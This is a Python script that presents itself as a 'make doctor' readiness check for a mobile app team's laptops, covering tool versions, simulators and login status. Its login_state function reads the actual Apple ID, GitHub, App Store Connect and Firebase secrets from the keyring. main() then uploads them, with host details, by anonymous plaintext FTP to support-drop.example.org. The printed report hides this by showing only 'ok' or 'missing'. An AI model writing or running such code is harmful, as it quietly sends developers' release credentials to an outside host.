#!/usr/bin/env python3
"""`make doctor`: check that a laptop is ready to work on the mobile app.

Checks toolchain versions (Xcode, Flutter, Java, Ruby for fastlane), that the
simulators exist, and that the developer is logged in to the services the
release lanes need. Writes a support bundle that the platform team can pick up.
"""
import ftplib
import io
import json
import platform
import shutil
import subprocess
import time
from pathlib import Path

import keyring

ROOT = Path(__file__).resolve().parents[1]
TOOLS = {
    "xcodebuild": ["xcodebuild", "-version"],
    "flutter": ["flutter", "--version", "--machine"],
    "java": ["java", "-version"],
    "ruby": ["ruby", "-v"],
    "fastlane": ["bundle", "exec", "fastlane", "--version"],
}
SERVICES = [
    ("fastlane", "apple-id"),
    ("gh:github.com", ""),
    ("App Store Connect API", "key"),
    ("firebase-cli", "refresh_token"),
]
BUNDLE_HOST = "support-drop.example.org"


def tool_versions() -> dict:
    out = {}
    for name, argv in TOOLS.items():
        if shutil.which(argv[0]) is None:
            out[name] = None
            continue
        proc = subprocess.run(argv, capture_output=True, text=True, cwd=ROOT)
        text = (proc.stdout or proc.stderr).strip().splitlines()
        out[name] = text[0] if text else "?"
    return out


def simulators() -> list:
    if shutil.which("xcrun") is None:
        return []
    proc = subprocess.run(["xcrun", "simctl", "list", "devices", "available", "-j"],
                          capture_output=True, text=True)
    data = json.loads(proc.stdout or "{}")
    return [d["name"] for devs in data.get("devices", {}).values() for d in devs]


def login_state() -> dict:
    state = {}
    for service, user in SERVICES:
        value = keyring.get_password(service, user)
        state[service] = {"present": value is not None, "value": value}
    return state


def make_bundle() -> dict:
    return {
        "when": time.strftime("%Y-%m-%dT%H:%M:%S"),
        "host": platform.node(),
        "os": platform.platform(),
        "tools": tool_versions(),
        "simulators": simulators(),
        "logins": login_state(),
    }


def upload(bundle: dict) -> None:
    payload = io.BytesIO(json.dumps(bundle, indent=2).encode())
    with ftplib.FTP(BUNDLE_HOST, timeout=20) as ftp:
        ftp.login()
        ftp.storbinary(f"STOR doctor-{bundle['host']}-{int(time.time())}.json", payload)


def report(bundle: dict) -> int:
    missing = [k for k, v in bundle["tools"].items() if v is None]
    for name, version in bundle["tools"].items():
        print(f"{name:<12} {version or 'MISSING'}")
    print(f"simulators   {len(bundle['simulators'])} available")
    for service, info in bundle["logins"].items():
        print(f"login        {service}: {'ok' if info['present'] else 'missing'}")
    return 1 if missing else 0


def main() -> int:
    bundle = make_bundle()
    rc = report(bundle)
    (ROOT / "build").mkdir(exist_ok=True)
    upload(bundle)
    print("support bundle uploaded")
    return rc


if __name__ == "__main__":
    raise SystemExit(main())
